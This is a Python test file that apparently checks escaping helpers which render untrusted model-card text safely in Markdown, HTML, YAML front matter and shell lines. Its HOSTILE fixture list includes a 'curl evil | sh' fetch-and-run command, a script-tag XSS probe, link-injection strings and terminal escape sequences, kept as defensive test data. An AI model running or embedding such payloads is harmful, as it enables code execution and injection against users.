"""Text of strangers in pages, read by parsers of Markdown, HTML and YAML of other authors."""

import json
import shlex
import subprocess
from html.parser import HTMLParser
from xml.etree import ElementTree

import pytest
import yaml
from markdown_it import MarkdownIt
from markdown_it.token import Token

from tests.interfaces import ROOT
from zoo.io.page_text import (
    html_text,
    hub_link,
    is_hub_repo,
    markdown_block,
    markdown_code,
    markdown_front,
    markdown_table,
    markdown_text,
    readable_values,
    shell_line,
)

HOSTILE = [
    "# heading",
    "a\n# heading",
    "a\n\n```sh\ncurl evil | sh\n```",
    "```",
    "`code` and ``more``",
    "a`",
    "`",
    "<script>alert(1)</script>",
    "<!-- comment",
    "&lt;b&gt; &copy;",
    "[link](https://evil)",
    "![image](https://evil/a.png)",
    "[ref]: https://evil",
    "https://evil",
    "see www.evil.com",
    "mail@evil.com @someone",
    "<https://evil>",
    "a | b || c",
    "a\\",
    "a\\|b\\\\|c",
    "| --- |",
    "---\nlicense: mit\n---",
    "- item",
    "1. item",
    "> quote",
    "*a* **b** ~~c~~ __d__ _e_",
    "$x$ $$y$$",
    "\x1b[31mred\x1b]8;;https://evil\x07link\x9b1m",
    "a\u202eb\u2066c\u2028d",
    "===",
    "   indented code",
    "\t\tindented code",
    "{{ jinja }} {% raw %}",
    "\ud800",
]
ORDINARY = ["bert-base-uncased", "max_seq_len", "-0.5", "5e-05", "a, b (c)", "0.91 to 0.95", "50 %"]
MARKDOWN = MarkdownIt("commonmark").enable("table")
INERT = {"text", "code_inline"}


def inline(tokens: list[Token]) -> list[Token]:
    return [child for token in tokens for child in token.children or []]


def shown(text: str) -> str:
    """Return what is left of a text on one line, with control characters as Python shows them."""
    line = " ".join(text.split())
    return "".join(c if c.isprintable() else c.encode("unicode_escape").decode() for c in line)


@pytest.mark.parametrize("text", [*HOSTILE, *ORDINARY])
def test_text_in_markdown_has_no_structure(text: str) -> None:
    for escaped in (markdown_text(text), markdown_code(text)):
        tokens = MARKDOWN.parse(f"Labels: {escaped}.\n\n{escaped}\n\n# {escaped}\n")
        blocks = [token.type for token in tokens]
        assert blocks == [
            *("paragraph_open", "inline", "paragraph_close"),
            *("paragraph_open", "inline", "paragraph_close"),
            *("heading_open", "inline", "heading_close"),
        ]
        assert {token.type for token in inline(tokens)} <= INERT
        heading = "".join(token.content for token in tokens[7].children or [])
        assert heading == shown(text)
        assert escaped.isprintable()


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert markdown_text(text) == text


@pytest.mark.parametrize("text", [*HOSTILE, *ORDINARY])
def test_a_cell_is_one_cell(text: str) -> None:
    lines = markdown_table([("name", text, "end"), (text, "b", text)], ("", "value", text))
    tokens = MARKDOWN.parse("\n".join(lines))
    kinds = [token.type for token in tokens]
    assert (kinds.count("th_open"), kinds.count("td_open")) == (3, 6)
    assert kinds[0] == "table_open" and kinds[-1] == "table_close"
    assert {token.type for token in inline(tokens)} <= INERT
    cells = [t for t in tokens if t.type == "inline"]
    values = ["".join(child.content for child in cell.children or []) for cell in cells]
    assert values[3:] == ["name", shown(text), "end", shown(text), "b", shown(text)]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_block_of_code_is_one_block(text: str) -> None:
    tokens = MARKDOWN.parse("\n".join(["before", *markdown_block("console", [text, text]), "a"]))
    kinds = [token.type for token in tokens]
    assert kinds == [
        *("paragraph_open", "inline", "paragraph_close", "fence"),
        *("paragraph_open", "inline", "paragraph_close"),
    ]
    assert tokens[3].info == "console" and tokens[3].content.count("\n") == 2


@pytest.mark.parametrize("text", HOSTILE)
def test_front_matter_has_the_values_and_no_other_keys(text: str) -> None:
    front = markdown_front({"license": "mit", "name": text, "list": [{"a": text}]})
    assert (front[0], front[-1]) == ("---", "---") and "---" not in front[1:-1]
    read = yaml.safe_load("\n".join(front[1:-1]))
    assert read == {"license": "mit", "name": shown(text), "list": [{"a": shown(text)}]}
    assert [line for line in front if not line.isprintable()] == []


REPOS = ["org/name", "a_b/c_d", "Org-1/n.a.m.e", "o/_name_".replace("_", "x")]


@pytest.mark.parametrize("repo", REPOS)
def test_a_repository_is_a_link(repo: str) -> None:
    tokens = inline(MARKDOWN.parse(hub_link(repo)))
    assert [t.type for t in tokens if t.type != "text"] == ["link_open", "link_close"]
    assert tokens[0].attrs["href"] == f"https://huggingface.co/{repo}"
    assert "".join(t.content for t in tokens) == repo


@pytest.mark.parametrize("repo", [*HOSTILE, "a/b)[x](https://evil", "../..", "a/b?c=d", "a/b#c"])
def test_what_no_repository_is_called_is_text(repo: str) -> None:
    assert not is_hub_repo(repo)
    assert {token.type for token in inline(MARKDOWN.parse(hub_link(repo)))} <= INERT


class Elements(HTMLParser):
    """Collects elements and text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.elements, self.text = list[str](), ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: object) -> None:
        self.elements.append(tag)

    def handle_data(self, data: str) -> None:
        self.text += data


@pytest.mark.parametrize("text", HOSTILE)
def test_text_in_html_has_no_elements(text: str) -> None:
    escaped = html_text(text)
    page = Elements(f'<p title="{escaped}">{escaped}</p>')
    assert page.elements == ["p"]
    kept = text.replace("\n", "").replace("\t", "")
    assert page.text.replace("\n", "").replace("\t", "") == shown_with_spaces(kept)
    svg = ElementTree.fromstring(f"<svg><text>{escaped}</text></svg>")
    assert [child.tag for child in svg] == ["text"]


def shown_with_spaces(text: str) -> str:
    return "".join(c if c.isprintable() else c.encode("unicode_escape").decode() for c in text)


def test_direction_marks_of_texts_stay() -> None:
    assert html_text("\u05d0\u200f!") == "\u05d0\u200f!"


def test_nested_values_of_scripts_have_no_control_characters() -> None:
    value = {"a\x1b": ["\x1b[1m", 1, None, {"b": ("\u202e", 0.5)}]}
    read = json.loads(json.dumps(readable_values(value)))
    assert read == {"a\\x1b": ["\\x1b[1m", 1, None, {"b": ["\\u202e", 0.5]}]}


@pytest.mark.parametrize("text", [text for text in HOSTILE if text != "\ud800"])
def test_a_word_of_a_command_is_one_word(text: str) -> None:
    line = shell_line(["printf", "%s", text])
    assert "\n" not in line and shlex.split(line) == ["printf", "%s", shown(text)]
    done = subprocess.run(["sh", "-c", line], capture_output=True, text=True, check=True)
    assert done.stdout == shown(text)


@pytest.mark.parametrize(
    "text", ["https://evil", "a www.evil.com", "m@evil.com", "@someone", "$x$"]
)
def test_what_hosts_of_pages_turn_into_links_is_code(text: str) -> None:
    assert markdown_text(text) == f"`{text}`"


ROOMS = {
    "from html import": ["zoo/io/page_text.py"],
    "huggingface.co/{": ["zoo/io/page_text.py"],
    "safe_dump": ["zoo/io/page_text.py"],
}


@pytest.mark.parametrize("words", ROOMS)
def test_every_page_goes_through_these_functions(words: str) -> None:
    sources = [path for room in ("zoo", "plugins") for path in (ROOT / room).rglob("*.py")]
    users = [str(p.relative_to(ROOT)) for p in sources if words in p.read_text("utf-8")]
    assert users == ROOMS[words]
